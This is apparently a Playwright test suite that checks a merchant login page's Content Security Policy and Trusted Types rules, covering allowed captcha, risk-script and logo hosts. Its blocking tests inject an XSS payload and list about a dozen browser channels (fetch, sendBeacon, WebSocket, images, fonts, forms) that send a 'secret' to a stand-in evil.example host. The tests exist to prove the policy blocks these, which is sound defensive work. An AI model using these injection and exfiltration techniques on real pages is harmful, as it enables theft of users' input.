import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { captchaScript } from '#api/offline/stand-in-scripts.ts';
import { test as base, expect, message, newestPin, signIn, test } from './fixtures.ts';
import { recoverUsername } from './steps.ts';
import { startTestServer } from './test-server.ts';

// What the policy of the page allows and blocks. Every browser test runs under that policy, and fails if the page violates
// it (fixtures.ts). tests/other-browsers/policy.ts shows the same in Firefox and WebKit.

/**
 * Like Google's first captcha script, this one defines the captcha's object without its functions, and loads a second
 * script by a URL that is a plain string.
 */
const captchaLoader = `(function () {
  window.grecaptcha = { ready: function () {} };
  var script = document.createElement('script');
  script.src = 'https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js' + new URL(document.currentScript.src).search;
  var first = document.getElementsByTagName('script')[0];
  first.parentNode.insertBefore(script, first);
})();`;

/** Like Google's second captcha script, this one creates its own Trusted Types policy. */
const captchaWidget = `window.trustedTypes && trustedTypes.createPolicy('goog#html', { createHTML: String });\n${captchaScript}`;

const script = (body: string) => ({ contentType: 'text/javascript', body });
const image = { contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' };

/** Recovers a username, with a captcha that loads a second script. */
async function recoverWithCaptcha(page: Page, pin: () => Promise<string>): Promise<void> {
  await page.route('https://www.google.com/recaptcha/**', (route) => route.fulfill(script(captchaLoader)));
  await page.route('https://www.gstatic.com/recaptcha/**', (route) => route.fulfill(script(captchaWidget)));
  await page.goto('/Loginapp/forgot-username');
  await recoverUsername(page);
  await page.getByRole('button', { name: /^Email PIN to/ }).click();
  await page.getByLabel('PIN', { exact: true }).fill(await pin());
  await page.getByRole('button', { name: 'Verify PIN' }).click();
  await expect(message(page, 'LOGIN_USERNAME_RETRIEVED')).toBeVisible();
}

const shopTheme = {
  method: 'GET',
  path: '/themesvc/v1/themes/shop',
  body: { id: 'shop', title: 'Shop', supportPhone: '1', logo: 'https://logos.example/a.svg' },
};

test.describe('a build that names no hosts', () => {
  test('allows a captcha that loads a second script', async ({ page, server }) => {
    await recoverWithCaptcha(page, () => newestPin(server));
  });

  test('allows a risk script of any host, and what it loads from there', async ({ page }) => {
    const loaded: string[] = [];
    await page.route('https://risk.example.com/**', (route) => {
      const { pathname } = new URL(route.request().url());
      loaded.push(pathname);
      return route.fulfill({
        ...(pathname === '/pixel' ? image : { contentType: 'text/html', body: '' }),
        ...(pathname === '/fp/tags.js'
          ? script(`new Image().src = 'https://risk.example.com/pixel';
              fetch('https://risk.example.com/call', { mode: 'no-cors' });
              document.body.appendChild(document.createElement('iframe')).src = 'https://risk.example.com/frame';`)
          : {}),
      });
    });
    await page.goto('/');
    await expect.poll(() => [...loaded].sort()).toEqual(['/call', '/fp/tags.js', '/frame', '/pixel']);
  });

  test('allows the logo of any host, and a console of any host', async ({ page, server }) => {
    await page.route('https://logos.example/**', (route) => route.fulfill(image));
    await page.route('https://console.example/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<h1>${route.request().method()}</h1>` }),
    );
    server.script(shopTheme, {
      method: 'POST',
      path: '/loginSvc/v1/sessionSTA',
      body: { redirectURL: 'https://console.example/start', sessionToken: 'token' },
    });
    await page.goto('/?cobrand=shop');
    await expect(page.getByRole('banner').getByRole('img', { name: 'Shop' })).toBeVisible();
    await signIn(page, 'merchant');
    await expect(page.getByRole('heading')).toHaveText('POST');
  });

  test.describe('blocks', () => {
    test.use({ provoked: /violat|Trusted|blocked/i });

    test('script in the HTML of the page, and HTML from text', async ({ page }) => {
      const requested: string[] = [];
      await page.route('https://evil.example/**', (route) => {
        requested.push(route.request().url());
        return route.fulfill(script('window.attacked = true'));
      });
      const attack =
        '<script>window.attacked = true</script><script src="https://evil.example/a.js"></script><img src="x" onerror="window.attacked = true">';
      await page.route('/', async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: (await response.text()).replace('<body>', `$&${attack}`) });
      });
      await page.goto('/');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      const refused = await page.evaluate((html) => {
        try {
          document.body.innerHTML = html;
          return '';
        } catch (error) {
          return String(error);
        }
      }, attack);
      expect(refused).toContain('TrustedHTML');
      expect(await page.evaluate(() => (window as { attacked?: boolean }).attacked)).toBeUndefined();
      expect(requested).toEqual([]);
    });
  });
});

/** A build that names its hosts. */
const narrowTest = base.extend<object, { readonly narrowBuild: string }>({
  narrowBuild: [
    // Playwright requires an object pattern here.
    // biome-ignore lint/correctness/noEmptyPattern: see above
    async ({}, use) => {
      const folder = mkdtempSync(join(tmpdir(), 'narrow-'));
      const options = ['build', '--outDir', folder, '--emptyOutDir', '--logLevel', 'error'];
      const env = {
        ...process.env,
        VITE_HANDOFF_HOSTS: 'console.example',
        VITE_SIGNUP_HOSTS: 'none',
        VITE_LOGO_HOSTS: 'logos.example.com',
        VITE_SCRIPT_HOSTS: 'www.google.com/recaptcha/, www.gstatic.com/recaptcha/, risk.example.com',
      };
      execFileSync(process.execPath, ['node_modules/vite/bin/vite.js', ...options], { env });
      await use(folder);
      rmSync(folder, { recursive: true });
    },
    { scope: 'worker' },
  ],
  server: async ({ narrowBuild }, use) => {
    const server = await startTestServer({ dist: narrowBuild });
    await use(server);
    await server.close();
  },
});

/** Adds an element to the page. */
const add = ({ tag = '', ...attributes }: Readonly<Record<string, string>>) => {
  document.body.append(Object.assign(document.createElement(tag), attributes));
};
const evil = 'https://evil.example/?secret';

/** Ways to send what a merchant types to another host, each with the directive that blocks it. */
const leaks: readonly (readonly [directive: string, run: (page: Page) => Promise<unknown>])[] = [
  ['img-src', (page) => page.evaluate(add, { tag: 'img', src: evil })],
  ['img-src', (page) => page.evaluate(add, { tag: 'p', style: `background: url(${evil})` })],
  ['connect-src', (page) => page.evaluate((url) => fetch(url), evil)],
  ['connect-src', (page) => page.evaluate((url) => navigator.sendBeacon(url), evil)],
  ['connect-src', (page) => page.evaluate((url) => new WebSocket(url.replace('https', 'wss')).url, evil)],
  ['connect-src', (page) => page.evaluate((url) => new EventSource(url).url, evil)],
  ['frame-src', (page) => page.evaluate(add, { tag: 'iframe', src: evil })],
  ['media-src', (page) => page.evaluate(add, { tag: 'video', src: evil })],
  ['font-src', (page) => page.evaluate((url) => new FontFace('x', `url(${url})`).load(), evil)],
  ['style-src-elem', (page) => page.evaluate(add, { tag: 'link', rel: 'stylesheet', href: evil })],
  [
    'form-action',
    async (page) => {
      await page.evaluate(add, { tag: 'form', id: 'leak', action: evil, method: 'post' });
      await page.evaluate(() => (document.getElementById('leak') as HTMLFormElement).submit());
    },
  ],
];

narrowTest.describe('a build that names its hosts', () => {
  narrowTest('allows the captcha', async ({ page, server }) => {
    await recoverWithCaptcha(page, () => newestPin(server));
  });

  narrowTest.describe('blocks', () => {
    narrowTest.use({ provoked: /violat|Trusted|blocked|net::ERR|Mixed Content|must begin with https/i });

    narrowTest('every other host', async ({ page, server }) => {
      const requested: string[] = [];
      await page.route(/evil\.example/, (route) => {
        requested.push(route.request().url());
        return route.abort();
      });
      await page.addInitScript(() => {
        const seen: string[] = [];
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          seen.push(effectiveDirective),
        );
        Object.assign(window, { violations: seen });
      });
      const violations = () =>
        page.evaluate(() => (window as unknown as { violations: string[] }).violations);
      await page.goto('/');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      for (const [directive, run] of leaks) {
        const before = (await violations()).length;
        await run(page).catch(() => undefined);
        await expect.poll(async () => (await violations()).slice(before)).toContain(directive);
      }
      await expect(page.evaluate(add, { tag: 'script', src: evil })).rejects.toThrow(
        /TrustedScriptURL|must begin/,
      );
      expect(requested).toEqual([]);
      expect(page.url()).toBe(`${server.url}/`);
    });

    narrowTest('a logo of another host, so the brand shows its title', async ({ page, server }) => {
      server.script(shopTheme);
      await page.goto('/?cobrand=shop');
      await expect(page.getByRole('banner')).toContainText('Shop');
      await expect(page.getByRole('banner').getByRole('img')).toHaveCount(0);
    });

    narrowTest('a session for another host, and the next login succeeds', async ({ page, server }) => {
      server.script({
        method: 'POST',
        path: '/loginSvc/v1/sessionSTA',
        body: { redirectURL: 'https://console.elsewhere.example/', sessionToken: 'secret-token' },
      });
      await page.goto('/');
      await signIn(page, 'merchant');
      await expect(message(page, 'LOGIN_UNANTICIPATED_ERROR')).toBeVisible();
      await expect(page.locator('[inert]')).toHaveCount(0);
      await expect(page.getByLabel('Password', { exact: true })).toHaveValue('');
    });
  });
});
